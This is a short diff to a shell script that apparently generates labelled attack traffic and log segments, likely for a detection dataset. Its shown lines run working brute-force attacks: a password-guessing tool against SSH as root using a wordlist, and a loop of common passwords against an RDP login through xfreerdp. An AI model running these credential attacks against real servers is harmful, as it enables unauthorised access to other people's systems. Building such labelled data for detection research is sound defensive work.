@@ -9,7 +9,7 @@ printf 'admin\ntest\noracle\nnvan\nttbinh\nlthoa\npmduc\nftpuser\npostgres\nquan
 from 198.51.100.7
 cut_begin ssh-bruteforce
 $guess -t 4 -l root -P /tmp/passwords.txt ssh://$SERVER > /dev/null 2>&1 || true
-cut_end ssh-bruteforce auth.log
+cut_end ssh-bruteforce auth.log auth-traditional.log
 
 from 198.51.100.8
 cut_begin ssh-spray
@@ -84,7 +84,7 @@ cut_end ftp-webshell vsftpd.log auth.log
 
 cut_begin rdp-bruteforce
 for word in 123456 admin@123 Abc@12345 qwerty Vietnam@123 P@ssw0rd; do
-    timeout 8 xvfb-run -a xfreerdp /v:$SERVER /u:quantri /p:$word /cert:ignore /sec:rdp > /dev/null 2>&1 || true
+    timeout 8 xvfb-run -a xfreerdp /v:$SERVER /u:quantri /p:$word /cert:ignore /sec:tls > /dev/null 2>&1 || true
 done
 cut_end rdp-bruteforce xrdp-sesman.log auth.log syslog
 
